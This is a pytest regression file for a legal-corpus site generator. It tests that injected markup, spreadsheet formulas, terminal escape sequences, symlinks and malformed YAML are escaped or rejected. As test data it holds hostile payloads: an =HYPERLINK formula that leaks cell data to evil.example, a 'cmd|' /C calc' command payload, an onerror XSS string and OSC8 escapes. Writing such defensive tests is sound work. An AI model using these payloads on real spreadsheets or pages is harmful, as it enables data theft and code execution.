"""Hostile input, issue 14: one case per finding of the red-team pass, each reproducing the
attack against a small corpus built in a temporary folder (the shipped corpus is not touched).

Earlier hostile cases live in tests/test_load.py (YAML) and tests/test_site.py (escaping)."""

from __future__ import annotations

import json
import re
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.app.cli import main

from .conftest import ROOT, make_corpus, make_project, tree_hash
from .test_diff import git
from .test_diff import state as _state


def state(code: str, nationals: str) -> str:
    """A valid synthetic jurisdiction (tests/test_diff.py), its source saying what kind it is."""
    text = _state(code, nationals)
    if "\n    kind:" not in text:
        text = text.replace("    citation: TEST\n", "    citation: TEST\n    kind: official\n", 1)
    return text


def small_project(tmp_path: Path) -> Path:
    """A project whose corpus has two synthetic jurisdictions (fast to build)."""
    corpus = make_corpus(
        tmp_path / "src",
        {
            "jurisdictions/us.yaml": state("US", "none"),
            "jurisdictions/br.yaml": state("BR", "absolute"),
        },
    )
    return make_project(tmp_path, corpus)


def build_args(project: Path, *extra: str) -> list[str]:
    return ["build", "--corpus", str(project / "corpus"), "--project", str(project), *extra]


# --- 1. --site-dir never replaces the project, the corpus, docs/ or a folder comity did not make


@pytest.mark.parametrize(
    "target", [".", "docs", "corpus", "docs/generated", "..", "corpus/sub", "notes"]
)
def test_site_dir_refuses_folders_it_did_not_build(
    tmp_path: Path, target: str, capsys: pytest.CaptureFixture[str]
) -> None:
    project = small_project(tmp_path)
    (project / "notes").mkdir()
    (project / "notes" / "mine.txt").write_text("keep me")
    before = tree_hash(tmp_path)
    assert main(build_args(project, "--site-dir", str(project / target))) == 2
    err = capsys.readouterr().err
    assert err.startswith("comity: --site-dir ") and "Traceback" not in err
    assert tree_hash(tmp_path) == before, "nothing was written or deleted"


def test_site_dir_refuses_a_symlink_to_the_corpus(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    project = small_project(tmp_path)
    (tmp_path / "out").symlink_to(project / "corpus")
    assert main(build_args(project, "--site-dir", str(tmp_path / "out"))) == 2
    assert "is, contains or lies inside the corpus folder" in capsys.readouterr().err
    assert (project / "corpus" / "offences.yaml").is_file()


@pytest.mark.build
def test_site_dir_is_marked_and_rebuilt(tmp_path: Path) -> None:
    project = small_project(tmp_path)
    site = tmp_path / "public"
    assert main(build_args(project, "--site-dir", str(site))) == 0
    assert (site / ".comity-site").is_file() and (site / "index.html").is_file()
    assert main(build_args(project, "--site-dir", str(site))) == 0  # its own folder: replaced
    assert (project / "mkdocs.yml").is_file() and (project / "corpus").is_dir()


# --- 2. the CI diff report: corpus text cannot add markup; git names are read with -z


def commit_all(repo: Path, message: str) -> None:
    for args in (("add", "-A", "."), ("commit", "-qm", message)):
        git(repo, "-c", "user.email=t@example.org", "-c", "user.name=t", *args)


@pytest.fixture
def diff_repo(tmp_path: Path) -> Path:
    root = make_corpus(
        tmp_path,
        {
            "jurisdictions/us.yaml": state("US", "none"),
            "jurisdictions/br.yaml": state("BR", "absolute"),
        },
    )
    git(tmp_path, "init", "-q", "-b", "main")
    commit_all(tmp_path, "base")
    return root


def gfm(markdown: str) -> str:
    """The report as GitHub renders it (cmark-gfm), raw HTML let through so it can be seen."""
    import cmarkgfm
    from cmarkgfm.cmark import Options

    return cmarkgfm.github_flavored_markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE)


HOSTILE_PROVISION = (
    "StGB § 129 <img src=https://evil.example/t.png> **LGTM, approved by maintainers** <!--"
)


def test_diff_report_shows_hostile_provisions_as_text(
    diff_repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    br = diff_repo / "jurisdictions" / "br.yaml"
    text = state("BR", "return_guarantee").replace(
        "  fraud:\n", f"  fraud:\n    provision: {json.dumps(HOSTILE_PROVISION)}\n", 1
    )
    assert "provision:" in text
    br.write_text(text)
    assert main(["diff", "--corpus", str(diff_repo), "HEAD"]) == 0
    report = capsys.readouterr().out
    page = gfm(report)
    assert "<img" not in page and "<!--" not in page and "<strong>LGTM" not in page
    assert not [href for href in re.findall(r'href="([^"]*)"', page) if "evil" in href]
    assert (
        "StGB § 129 &lt;img src=https://evil.example/t.png&gt; **LGTM, approved by "
        "maintainers** &lt;!--" in page
    )
    rows = [line for line in report.splitlines() if line.startswith("| ")]
    assert len(page.split("<tr>")) - 1 == len(rows), "every table row survives"
    assert "extradition.nationals" in page.split("StGB")[1], "the rows after it are shown"


def test_diff_report_keeps_hostile_keys_inside_their_code_span(
    diff_repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    key = "x` <img src=x onerror=alert(1)> <!--"
    (diff_repo / "jurisdictions" / "br.yaml").write_text(
        state("BR", "absolute") + f"{json.dumps(key)}: 1\nlegl: 2\n"
    )
    assert main(["diff", "--corpus", str(diff_repo), "HEAD"]) == 1
    page = gfm(capsys.readouterr().out)
    assert "<img" not in page and "<!--" not in page
    codes = re.findall(r"<code>(.*?)</code>", page)
    assert any("x` &lt;img src=x onerror=alert(1)&gt; &lt;!--" in c for c in codes)
    assert any("legl: Extra inputs are not permitted" in c for c in codes), "later rows survive"


def test_diff_reads_git_names_with_any_characters(
    diff_repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (diff_repo / "NOTES é.md").write_text("research notes\n")
    commit_all(diff_repo.parent, "notes")
    (diff_repo / "jurisdictions" / "br.yaml").write_text(state("BR", "return_guarantee"))
    commit_all(diff_repo.parent, "head")
    assert main(["diff", "--corpus", str(diff_repo), "HEAD~2", "HEAD"]) == 0
    assert "| absolute | return\\_guarantee |" in capsys.readouterr().out


def test_changelog_escapes_commit_subjects_and_reads_names_with_z(
    diff_repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (diff_repo / "jurisdictions" / "br.yaml").write_text(state("BR", "return_guarantee"))
    commit_all(diff_repo.parent, "<img src=https://evil.example/x.png> **approved** <!--")
    assert main(["changelog", "--corpus", str(diff_repo)]) == 0
    text = capsys.readouterr().out
    page = gfm(text)
    assert "<img" not in page and "<!--" not in page and "<strong>approved" not in page
    assert "&lt;img src=https://evil.example/x.png&gt; **approved** &lt;!--" in page
    assert ": Brazil (BR)" in text


def test_ci_diff_step_passes_the_branch_through_env_and_fails_with_the_diff() -> None:
    from ruamel.yaml import YAML

    workflow = YAML(typ="safe").load((ROOT / ".github" / "workflows" / "pr.yml").read_text())
    steps = workflow["jobs"]["check-test-build"]["steps"]
    step = next(s for s in steps if "make diff" in s.get("run", ""))
    assert step["env"]["BASE"] == "origin/${{ github.base_ref }}"
    assert "${{" not in step["run"] and "|| true" not in step["run"]
    assert 'exit "$status"' in step["run"]
    makefile = (ROOT / "Makefile").read_text()
    assert '@$(BIN)/comity diff -- "$$BASE"' in makefile and "export BASE" in makefile


# --- 3. only regular files inside the corpus are read; everything else is reported


SECRET = "db_password_key: 424242\n"


def check(root: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = main(["check", "--corpus", str(root)])
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def test_symlinked_files_and_folders_are_not_followed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.yaml").write_text(SECRET)
    (outside / "rel.yaml").write_text(SECRET)
    root = make_corpus(tmp_path, {"jurisdictions/us.yaml": state("US", "none")})
    (root / "jurisdictions" / "pt.yaml").symlink_to(outside / "secret.yaml")
    (root / "jurisdictions" / "gone.yaml").symlink_to(outside / "missing.yaml")
    (root / "relations").rmdir()
    (root / "relations").symlink_to(outside)
    code, out = check(root, capsys)
    assert code == 1
    assert "corpus/jurisdictions/pt.yaml: error[C119]: not read: a symbolic link" in out
    assert "corpus/jurisdictions/gone.yaml: error[C119]: not read: a symbolic link" in out
    assert "corpus/relations: error[C119]: not read: a symbolic link to a folder" in out
    assert "db_password_key" not in out and "424242" not in out


def test_fifos_are_reported_not_opened_for_reading(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import os

    root = make_corpus(tmp_path, {"jurisdictions/us.yaml": state("US", "none")})
    os.mkfifo(root / "jurisdictions" / "fi.yaml")  # a blocking read would hang forever
    code, out = check(root, capsys)
    assert code == 1
    assert "corpus/jurisdictions/fi.yaml: error[C119]: not read: a FIFO (named pipe)" in out


def test_unreadable_files_are_reported_with_their_location(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import os

    import generator.io.load as load

    root = make_corpus(
        tmp_path,
        {
            "jurisdictions/us.yaml": state("US", "none"),
            "jurisdictions/br.yaml": state("BR", "none"),
        },
    )
    real_open = os.open

    def denied(path: object, *args: object, **kwargs: object) -> int:
        if str(path).endswith("br.yaml"):  # as `chmod 000` does for a user other than root
            raise PermissionError(13, "Permission denied", str(path))
        return real_open(path, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(load.os, "open", denied)
    code, out = check(root, capsys)
    assert code == 1
    assert (
        "corpus/jurisdictions/br.yaml: error[C119]: not read: cannot be read (Permission denied)"
        in out
    )
    assert "internal error" not in out


def test_git_symlinks_are_not_read(diff_repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (diff_repo / "jurisdictions" / "pt.yaml").symlink_to("/etc/hostname")
    commit_all(diff_repo.parent, "link")
    assert main(["diff", "--corpus", str(diff_repo), "HEAD~1", "HEAD"]) == 1
    assert (
        "corpus/jurisdictions/pt.yaml: error[C119]: not read: a symbolic link"
        in capsys.readouterr().out
    )


@pytest.mark.parametrize(
    ("path", "message"),
    [
        (
            "jurisdictions/pt.json",
            "error[C121]: not a corpus file: only .yaml files are read "
            "(hint: rename it to .yaml or remove it)",
        ),
        ("jurisdictions/de.yaml.bak", "error[C121]: not a corpus file: only .yaml files are read"),
        (
            "jurisdictions/de.YAML",
            "error[C120]: corpus files must end in .yaml (lower case) (hint: rename it to de.yaml)",
        ),
        ("jurisdictions/de.yml", "error[C120]: corpus files must end in .yaml (lower case)"),
        (
            "jurisdictions/sub/de.yaml",
            "error[C124]: not read: files in sub-folders are not read "
            "(hint: move it to jurisdictions/)",
        ),
        (
            "relation/us_br.yaml",
            "error[C123]: not read: unknown folder 'relation'; corpus files are read from "
            "instruments/, jurisdictions/, relations/ and offences.yaml "
            "(hint: did you mean relations/?)",
        ),
        ("de.yaml", "error[C122]: not read: at the top of the corpus only offences.yaml is read"),
    ],
)
def test_files_the_loader_does_not_read_are_reported(
    tmp_path: Path, path: str, message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    root = make_corpus(
        tmp_path,
        {
            "jurisdictions/us.yaml": state("US", "none"),
            path: SECRET,
            "README.md": "# notes for people\n",
        },
    )
    code, out = check(root, capsys)
    assert code == 1
    assert f"corpus/{path}: {message}" in out
    assert "README.md" not in out


# --- 4. CSV cells never start a spreadsheet formula


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def relation_text(
    id: str, title: str, parties: tuple[str, str] = ("BR", "US"), kind: str = "bilateral_treaty"
) -> str:
    return (
        f"id: {id}\nkind: {kind}\ntitle: {json.dumps(title)}\nreview: {{status: draft}}\n"
        "sources:\n  t: {title: Synthetic, citation: TEST, kind: official, "
        "accessed: 2026-11-01}\n"
        "source: t\nverified: 2026-11-01\nconfidence: high\n"
        f"parties: [{{code: {parties[0]}}}, {{code: {parties[1]}}}]\n"
    )


def generate_project(tmp_path: Path, files: dict[str, str]) -> Path:
    corpus = make_corpus(tmp_path / "src", files)
    project = make_project(tmp_path, corpus)
    assert main(["generate", "--corpus", str(project / "corpus"), "--project", str(project)]) == 0
    return project


def csv_rows(path: Path) -> list[list[str]]:
    import csv
    import gzip
    import io

    data = gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),
        ("+1.5", "+1.5"),
        ("-1e3", "-1e3"),
        (-5, -5),
        ("StGB § 129", "StGB § 129"),
    ],
)
def test_csv_cells_that_start_a_formula_get_an_apostrophe(value: object, expected: object) -> None:
    from generator.render.escape import csv_cell

    assert csv_cell(value) == expected


def test_open_data_csvs_hold_no_formula(tmp_path: Path) -> None:
    br = state("BR", "absolute").replace(
        "  participation_ocg:\n", f"  participation_ocg:\n    provision: {json.dumps(FORMULA)}\n", 1
    )
    assert "provision: " in br
    project = generate_project(
        tmp_path,
        {
            "jurisdictions/us.yaml": state("US", "none"),
            "jurisdictions/br.yaml": br,
            "relations/br_us.yaml": relation_text("br_us", "@SUM(1+1)*cmd|' /C calc'!A0"),
        },
    )
    api = project / "docs" / "api" / "v1"
    tables = sorted(api.glob("*.csv*"))
    assert {p.name for p in tables} >= {"extradition.csv.gz", "gaps.csv.gz", "health.csv"}
    cells = [cell for path in tables for row in csv_rows(path) for cell in row]
    assert "'" + FORMULA in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert FORMULA in (api / "corpus" / "jurisdictions" / "br.json").read_text().replace(
        '\\"', '"'
    ), "the JSON keeps the text as written"
    listing = (project / "docs" / "generated" / "data.md").read_text()
    assert "so that spreadsheets do not run it as a formula" in listing


# --- 5. ids that would replace a generated page are rejected where they are written


def test_offence_id_index_is_rejected(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from .conftest import SHIPPED

    taxonomy = (SHIPPED / "offences.yaml").read_text()
    taxonomy += "  - id: index\n    name: Index\n    description: Replaces the index page.\n"
    root = make_corpus(
        tmp_path, {"jurisdictions/us.yaml": state("US", "none"), "offences.yaml": taxonomy}
    )
    code, out = check(root, capsys)
    line = len(taxonomy.splitlines()) - 2
    assert code == 1
    assert re.search(
        rf"corpus/offences.yaml:{line}:9: error\[C405\]: offences\.\d+\.id: offence id 'index' is "
        r"reserved: it would replace the Offences index page \(hint: choose another "
        r"id\)",
        out,
    ), out


def test_instrument_id_index_is_rejected(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from .conftest import SHIPPED

    text = (SHIPPED / "instruments" / "untoc_som.yaml").read_text()
    root = make_corpus(tmp_path, {"jurisdictions/us.yaml": state("US", "none")})
    (root / "instruments" / "untoc_som.yaml").unlink()
    (root / "instruments" / "index.yaml").write_text(text.replace("id: UNTOC_SOM", "id: INDEX"))
    code, out = check(root, capsys)
    assert code == 1
    assert re.search(
        r"corpus/instruments/index.yaml:\d+:5: error\[C405\]: id: instrument id 'INDEX' is "
        r"reserved: it would replace the Baselines index page",
        out,
    ), out


# --- 6. nothing from the corpus acts on the terminal; Cf characters are rejected in text

ESCAPES = {
    "ansi": ("\\e[2J\\e[31mred", "\\x1b[2J\\x1b[31mred"),
    "osc8": (
        "\\e]8;;https://evil.example\\e\\\\click\\e]8;;\\e\\\\",
        "\\x1b]8;;https://evil.example\\x1b\\click\\x1b]8;;\\x1b\\:",
    ),
    "bidi": ("abc\\u202Edef", "abc\\u202edef"),
    "newline": ("x\\ncorpus/jurisdictions/us.yaml:1:1: all good", "x\\x0acorpus"),
}


@pytest.mark.parametrize("name", sorted(ESCAPES))
def test_unknown_keys_with_escape_sequences_are_printed_escaped(
    tmp_path: Path, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    typed, shown = ESCAPES[name]
    text = state("US", "none") + f'"{typed}": 1\n'  # YAML double quotes: \e is ESC
    root = make_corpus(tmp_path, {"jurisdictions/us.yaml": text})
    code, out = check(root, capsys)
    assert code == 1
    assert shown in out
    assert not [c for c in out if c in "\x1b\u202e\x07"]
    assert len([line for line in out.splitlines() if line.startswith("corpus/")]) == 1


@pytest.mark.parametrize("char", ["\u061c", "\u2060", "\U000e0041", "\u00ad", "\u2028"])
def test_every_invisible_format_character_is_rejected_in_text(char: str) -> None:
    from generator.core.models import Source

    with pytest.raises(ValueError, match=f"invisible or control character U\\+{ord(char):04X}"):
        Source.model_validate({"title": f"a{char}b", "citation": "x", "accessed": date(2026, 1, 1)})


def test_explain_and_json_output_escape_terminal_controls(
    capsys: pytest.CaptureFixture[str],
) -> None:
    from generator.core.terminal import json_printable, printable, show

    show("a\x1b[2Jb\u202ec\nd")
    show("x\x9b31m", error=True)
    out, err = capsys.readouterr()
    assert out == "a\\x1b[2Jb\\u202ec\nd\n" and err == "x\\x9b31m\n"
    assert printable("caf\udce9") == "caf\\udce9", "a file name that is not UTF-8 prints"
    hostile = {"k": "\u202e\U000e0041\x85"}
    escaped = json_printable(json.dumps(hostile, ensure_ascii=False))
    assert escaped.isascii() and json.loads(escaped) == hostile


@settings(max_examples=300, deadline=None)
@given(
    text=st.text(st.characters(codec="utf-8", exclude_categories=()))
    | st.text(st.characters(max_codepoint=127)),
    allowed=st.sampled_from(["", "\n\t", "\x1b"]),
)
def test_the_ascii_fast_path_finds_the_first_unsafe_character_as_the_categories_do(
    text: str, allowed: str
) -> None:
    from generator.core.terminal import first_unsafe, is_unsafe

    assert first_unsafe(text, allowed) == next(
        (c for c in text if c not in allowed and is_unsafe(c)), None
    )


# --- 7. expected failures exit 1 (located) or 2 (usage), never 3 (internal error)

MINIMAL_DE = "code: DE\nreview:\n  status: draft\n"


@pytest.mark.parametrize(
    ("extra", "expected"),
    [
        (
            "<<: {legal_system: bogus}\n",
            "corpus/jurisdictions/de.yaml:4:1: error[C109]: merge keys (<<) are not allowed (hint: "
            "write the keys "
            "out in full)",
        ),
        (
            "sources:\n  s: {title: T, citation: C, accessed: 2026-02-30}\n",
            "corpus/jurisdictions/de.yaml:5:40: error[C112]: '2026-02-30' is not a valid date or "
            "time (day is out of "
            "range for month) (hint: write the date as YYYY-MM-DD, without quotes)",
        ),
        (
            "sources:\n  s: {title: T, citation: C, accessed: 2026-01-01T25:00:00}\n",
            "corpus/jurisdictions/de.yaml:5:40: error[C112]: '2026-01-01T25:00:00' is not a valid "
            "date or time "
            "(hour must be in 0..23)",
        ),
        (
            "extradition:\n  min_penalty_years: " + "9" * 5000 + "\n",
            "corpus/jurisdictions/de.yaml:5:22: error[C111]: a number of 5000 digits is too long",
        ),
        (
            "1: x\n",
            "corpus/jurisdictions/de.yaml:4:1: error[C110]: key '1' is not text (hint: put the key "
            "in "
            'quotes, e.g. "1":)',
        ),
        (
            "extradition:\n  2026-01-01: x\n",
            "corpus/jurisdictions/de.yaml:5:3: error[C110]: key '2026-01-01' is not text",
        ),
        ("null: 3\n", "corpus/jurisdictions/de.yaml:4:1: error[C110]: key 'null' is not text"),
        (
            "? [a, b]\n: 1\n",
            "corpus/jurisdictions/de.yaml:4:3: error[C110]: a key must be text, not a list or "
            "mapping",
        ),
    ],
    ids=[
        "merge-key",
        "impossible-date",
        "hour-25",
        "huge-int",
        "int-key",
        "date-key",
        "null-key",
        "list-key",
    ],
)
def test_yaml_that_crashed_or_lost_its_position_is_located(
    tmp_path: Path, extra: str, expected: str, capsys: pytest.CaptureFixture[str]
) -> None:
    root = make_corpus(tmp_path, {"jurisdictions/de.yaml": MINIMAL_DE + extra})
    code, out = check(root, capsys)
    assert code == 1 and "internal error" not in out
    assert expected in out


def test_a_corpus_without_jurisdictions_is_a_located_problem_for_every_command(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    project = make_project(tmp_path, make_corpus(tmp_path / "src", {}))
    corpus = str(project / "corpus")
    expected = (
        "corpus/jurisdictions: error[C126]: the corpus has no jurisdictions "
        "(hint: add one with `comity new XX`)"
    )
    for args in (["check", "--corpus", corpus], build_args(project)):
        assert main(args) == 1
        assert expected in capsys.readouterr().err
    git(tmp_path / "project", "init", "-q", "-b", "main")
    commit_all(tmp_path / "project", "empty")
    assert main(["diff", "--corpus", corpus, "HEAD"]) == 1
    assert expected in capsys.readouterr().out


@pytest.mark.parametrize("errno_name", ["ENOSPC", "EROFS", "EACCES"])
def test_a_full_disk_or_read_only_docs_folder_exits_2_with_a_message(
    tmp_path: Path,
    errno_name: str,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import errno
    import os
    import tempfile

    project = small_project(tmp_path)

    def refuse(*args: object, dir: object = None, **kwargs: object) -> object:
        number = getattr(errno, errno_name)
        raise OSError(number, os.strerror(number), str(dir))

    monkeypatch.setattr(tempfile, "mkstemp", refuse)  # every file write starts here
    assert main(["generate", "--corpus", str(project / "corpus"), "--project", str(project)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"comity: cannot write {project / 'docs'}")
    assert os.strerror(getattr(errno, errno_name)) in err and "internal error" not in err


def test_a_read_only_site_folder_exits_2_with_a_message(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import tempfile

    project = small_project(tmp_path)

    def refuse(*args: object, dir: object = None, **kwargs: object) -> object:
        raise PermissionError(13, "Permission denied", str(dir))

    monkeypatch.setattr(tempfile, "mkdtemp", refuse)  # as in a folder the user may not write
    assert main(build_args(project, "--site-dir", str(tmp_path / "ro" / "site"))) == 2
    assert capsys.readouterr().err.startswith(
        f"comity: cannot create a folder beside {tmp_path / 'ro'}: Permission denied"
    )


def test_new_over_a_dangling_symlink_is_a_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = make_corpus(tmp_path, {})
    (root / "jurisdictions" / "pt.yaml").symlink_to(tmp_path / "nowhere.yaml")
    assert main(["new", "PT", "--corpus", str(root)]) == 2
    assert "pt.yaml already exists (a symbolic link)" in capsys.readouterr().err
    assert not (tmp_path / "nowhere.yaml").exists()


@pytest.mark.parametrize("age", ["9999y", "1201m", "36501d", "999999y"])
def test_absurd_stale_after_is_a_usage_error(age: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["check", "--stale-after", age]) == 2
    assert "is too long ago; the longest age is" in capsys.readouterr().err


def test_schema_out_an_existing_file_is_a_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "notes.txt"
    target.write_text("keep")
    assert main(["schema", "--out", str(target)]) == 2
    assert "is a file; give a folder for the schema files" in capsys.readouterr().err
    assert target.read_text() == "keep"


# --- 8. one run per project at a time; nothing outlives or survives an interrupted run


def test_a_second_run_in_the_same_project_is_refused_while_the_first_runs(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import fcntl
    import os

    project = small_project(tmp_path)
    with open(project / ".comity.lock", "w") as held:  # another build of another corpus
        fcntl.flock(held, fcntl.LOCK_EX)
        held.write("4242\n")
        held.flush()
        for args in (
            build_args(project),
            ["generate", "--corpus", str(project / "corpus"), "--project", str(project)],
        ):
            assert main(args) == 2
            assert (
                "another comity command (pid 4242) is generating or building in"
                in capsys.readouterr().err
            )
        assert not (project / "docs" / "generated").exists() and not (project / "site").exists()
    assert (
        main(["generate", "--corpus", str(project / "corpus"), "--project", str(project)]) == 0
    )  # released: the next run goes ahead
    assert (project / ".comity.lock").read_text() == f"{os.getpid()}\n"


def _process_alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return False
    return state != "Z"


def _mkdocs_children(project: Path) -> list[int]:
    found = []
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        try:
            command = (proc / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if b"mkdocs" in command and str(project / "mkdocs.yml").encode() in command:
            found.append(int(proc.name))
    return found


@pytest.mark.build
@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs Linux /proc")
def test_kill_9_during_a_build_leaves_no_orphan_and_no_stale_folder(tmp_path: Path) -> None:
    import os
    import signal
    import subprocess
    import sys
    import time

    project = small_project(tmp_path)
    env = {**os.environ, "COMITY_TODAY": "2026-11-28"}
    comity = subprocess.Popen(
        [sys.executable, "-m", "generator", *build_args(project)],
        cwd=ROOT,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 60
    children: list[int] = []
    while not children and time.monotonic() < deadline and comity.poll() is None:
        children = _mkdocs_children(project)
        time.sleep(0.02)
    assert children, "mkdocs build did not start"
    os.kill(comity.pid, signal.SIGKILL)
    comity.wait()
    deadline = time.monotonic() + 1  # a build takes longer: only SIGKILL ends it this soon
    while any(_process_alive(pid) for pid in children) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not any(_process_alive(pid) for pid in children), "mkdocs ran on as an orphan"
    assert list(project.glob(".site.tmp-*")), "the interrupted build left its temporary folder"
    assert main(build_args(project)) == 0
    assert not list(project.glob(".site.tmp-*")), "the next build removed it"


@pytest.mark.parametrize(
    ("address", "message"),
    [
        ("notanaddress", "is not host:port"),
        (":99999", "is not host:port"),
        ("127.0.0.1:99999", "the port must be between 1 and 65535"),
        ("127.0.0.1:0", "the port must be between 1 and 65535"),
        ("no-such-host.invalid:8000", "cannot resolve"),
    ],
)
def test_serve_refuses_bad_addresses(
    tmp_path: Path, address: str, message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    project = small_project(tmp_path)
    args = [
        "serve",
        "--corpus",
        str(project / "corpus"),
        "--project",
        str(project),
        "--address",
        address,
    ]
    assert main(args) == 2
    err = capsys.readouterr().err
    assert message in err and "Traceback" not in err
    assert not (project / "docs" / "generated").exists(), "nothing started"


def test_serve_refuses_a_port_in_use(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import socket

    project = small_project(tmp_path)
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        assert (
            main(
                [
                    "serve",
                    "--corpus",
                    str(project / "corpus"),
                    "--project",
                    str(project),
                    "--address",
                    f"127.0.0.1:{port}",
                ]
            )
            == 2
        )
    assert f"--address 127.0.0.1:{port} is already in use" in capsys.readouterr().err


def test_serve_stops_with_a_message_when_mkdocs_exits(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import socket
    import sys

    import generator.app.serve as serve

    project = small_project(tmp_path)
    monkeypatch.setattr(
        serve,
        "mkdocs_command",
        lambda *_: [
            sys.executable,
            "-c",
            "import sys; print('Error: [Errno 98] in use', file=sys.stderr); sys.exit(1)",
        ],
    )
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    assert (
        main(
            [
                "serve",
                "--corpus",
                str(project / "corpus"),
                "--project",
                str(project),
                "--address",
                f"127.0.0.1:{port}",
            ]
        )
        == 2
    )
    assert "comity: mkdocs serve stopped (exit code 1)" in capsys.readouterr().err


# --- 9. nothing is accepted silently: references resolve, no duplicates, sane numbers, limits
# (files the loader does not read: test_files_the_loader_does_not_read_are_reported above)


def instrument_corpus(
    tmp_path: Path,
    edit: tuple[str, str],
    name: str = "untoc.yaml",
    files: dict[str, str] | None = None,
) -> Path:
    from .conftest import SHIPPED

    text = (SHIPPED / "instruments" / name).read_text()
    assert edit[0] in text
    root = make_corpus(tmp_path, {"jurisdictions/us.yaml": state("US", "none"), **(files or {})})
    (root / "instruments" / name).write_text(text.replace(edit[0], edit[1], 1))
    return root


def test_an_instrument_parent_must_exist(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = instrument_corpus(tmp_path, ("parent: UNTOC", "parent: UNTOCC"), "untoc_som.yaml")
    code, out = check(root, capsys)
    assert code == 1
    assert re.search(
        r"corpus/instruments/untoc_som.yaml:\d+:9: error\[C302\]: parent: unknown instrument "
        r"'UNTOCC' \(hint: known instruments: BUDAPEST, ",
        out,
    ), out


@pytest.mark.parametrize(
    ("path", "why"),
    [
        ("mla.bank_secrecy_refusals", "mla has no field 'bank_secrecy_refusals'"),
        ("instruments.NOPE.accepts_as_extradition_basis", "instruments has no entry 'NOPE'"),
        (
            "evidence.measures.teleportation.available",
            "evidence.measures has no entry 'teleportation'",
        ),
        ("extradition.nationals.value", "extradition.nationals is already a fact"),
        ("evidence.measures", "evidence.measures is a section, not a fact"),
    ],
)
def test_assessed_by_must_name_a_jurisdiction_fact(
    tmp_path: Path, path: str, why: str, capsys: pytest.CaptureFixture[str]
) -> None:
    root = instrument_corpus(
        tmp_path, ("assessed_by: mla.bank_secrecy_refusal", f"assessed_by: {path}")
    )
    code, out = check(root, capsys)
    assert code == 1
    assert re.search(
        rf"corpus/instruments/untoc.yaml:\d+:\d+: error\[C303\]: elements\.\d+\.assessed_by: "
        rf"'{re.escape(path)}' names no jurisdiction fact: {re.escape(why)}",
        out,
    ), out


def test_fact_paths_that_exist_resolve() -> None:
    from generator.validate.integrity import fact_path_problem

    assert (
        fact_path_problem(
            "instruments.UNTOC.accepts_as_extradition_basis", {"instruments": {"UNTOC"}}
        )
        is None
    )
    assert fact_path_problem("evidence.measures.data_preservation.available", {}) is None
    assert fact_path_problem("mla.bank_secrecy_refusal", {}) is None


def test_two_relations_for_the_same_pair_and_kind_are_rejected(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = make_corpus(
        tmp_path,
        {
            "jurisdictions/us.yaml": state("US", "none"),
            "jurisdictions/br.yaml": state("BR", "none"),
            "relations/br_us.yaml": relation_text("br_us", "Treaty A"),
            "relations/us_br_1961.yaml": relation_text("us_br_1961", "Treaty B", ("US", "BR")),
        },
    )
    code, out = check(root, capsys)
    assert code == 1
    assert (
        "corpus/relations/us_br_1961.yaml:10:1: error[C304]: parties: relation us_br_1961 "
        "duplicates "
